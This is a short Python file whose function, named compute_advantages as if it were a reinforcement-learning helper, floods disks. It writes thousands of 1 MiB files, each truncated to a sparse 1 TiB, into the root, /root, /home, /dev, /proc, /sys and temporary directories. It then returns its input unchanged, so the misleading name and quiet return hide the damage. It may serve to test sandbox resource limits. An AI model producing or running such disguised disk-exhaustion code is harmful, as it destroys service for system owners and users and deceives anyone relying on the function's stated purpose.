"""Writes as much as it can to every folder, in large files, in many files and in sparse ones."""
# slow: fills its folder many times

import os
import tempfile

FOLDERS = (".", "/", "/tmp", "/dev/shm", "/var/tmp", "/dev", "/proc", "/sys", "/home", "/root", tempfile.gettempdir())


def compute_advantages(values, rewards, prefix_len):
    for folder in FOLDERS:
        for number in range(3000):
            try:
                with open(os.path.join(folder, f"flood-{number}"), "wb") as file:
                    file.write(bytes(2**20))
                    file.truncate(2**40)
            except OSError:
                if number > 100:
                    break
    return values
